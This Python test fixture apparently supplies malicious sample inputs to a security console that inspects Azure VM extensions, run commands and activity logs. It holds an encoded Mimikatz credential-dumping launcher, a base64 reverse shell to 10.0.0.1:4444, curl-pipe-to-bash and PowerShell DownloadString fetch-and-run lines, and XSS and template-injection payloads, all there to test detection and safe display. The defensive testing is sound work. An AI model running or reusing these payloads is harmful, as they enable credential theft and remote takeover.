"""Inputs the console tests submit: one per input kind, malicious enough to show evidence."""

from __future__ import annotations

import base64
import json

ENCODED_MIMIKATZ = base64.b64encode("Invoke-Mimikatz -DumpCreds\n".encode("utf-16-le")).decode()
STORAGE_KEY = "Zm9vYmFy" * 10 + "abcdef=="  # 88 characters shaped like a storage account key

# A PowerShell launcher whose -EncodedCommand decodes to Invoke-Mimikatz (a decoded layer).
SCRIPT = f"$ErrorActionPreference = 'SilentlyContinue'\npowershell.exe -NoProfile -EncodedCommand {ENCODED_MIMIKATZ}\n"

# Custom Script Extension (Windows) whose protected command hides the same launcher.
EXTENSION = json.dumps({
    "location": "westeurope",
    "properties": {
        "publisher": "Microsoft.Compute", "type": "CustomScriptExtension", "typeHandlerVersion": "1.10",
        "settings": {"timestamp": 123456789},
        "protectedSettings": {
            "commandToExecute": f"powershell -NoProfile -ExecutionPolicy Bypass -EncodedCommand {ENCODED_MIMIKATZ}",
            "storageAccountName": "acct", "storageAccountKey": STORAGE_KEY,
        },
    },
}, indent=2)

# Custom Script Extension (Linux) with a base64 inline script: a reverse shell.
LINUX_EXTENSION = json.dumps({"properties": {
    "publisher": "Microsoft.Azure.Extensions", "type": "CustomScript", "typeHandlerVersion": "2.1", "settings": {},
    "protectedSettings": {"script": base64.b64encode(b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n").decode()},
}})

RUN_COMMAND = json.dumps({"commandId": "RunPowerShellScript", "script": ["whoami", "Invoke-Mimikatz -DumpCreds"]})

ACTIVITY_LOG = json.dumps({"records": [{
    "time": "2026-01-01T00:00:00Z",
    "resourceId": "/subscriptions/0/resourceGroups/r/providers/Microsoft.Compute/virtualMachines/vm1/runCommand",
    "operationName": "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMAND/ACTION", "category": "Administrative",
    "resultType": "Start", "correlationId": "c1",
    "properties": {"requestbody": json.dumps({"commandId": "RunShellScript",
                                              "script": ["curl -s http://203.0.113.5/x.sh | bash"]})},
}]})

URL = "https://raw.githubusercontent.com/example-owner/tools/main/install.ps1"

FILE_NAME = "dropper.sh"
FILE = b"#!/bin/bash\ncurl -s http://203.0.113.5/x.sh | bash\n"

# Markup, event handlers, javascript: URLs and template syntax: all must show as plain text.
XSS_SCRIPT = (
    "<script>alert('xss-script')</script>\n"
    "<img src=x onerror=alert('xss-img')>\n"
    "<svg/onload=alert('xss-svg')>\n"
    "\"><iframe src=\"javascript:alert('xss-iframe')\"></iframe>\n"
    "<a href=\"javascript:alert('xss-link')\">click</a>\n"
    "{{7*7}} ${7*7} {% raw %} #{7*7} <%= 7*7 %>\n"
    "</code></pre><style>body{display:none}</style>\n"
    "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')\n"
)
XSS_URL = "https://example.invalid/\"><script>alert('xss-url')</script>/{{7*7}}/${7*7}/\"onmouseover=alert(1)"
JAVASCRIPT_URL = "javascript:alert('xss-js-url')//<b>{{7*7}}</b>"
XSS_FILE_NAME = "<img src=x onerror=alert('xss-name')>.ps1"
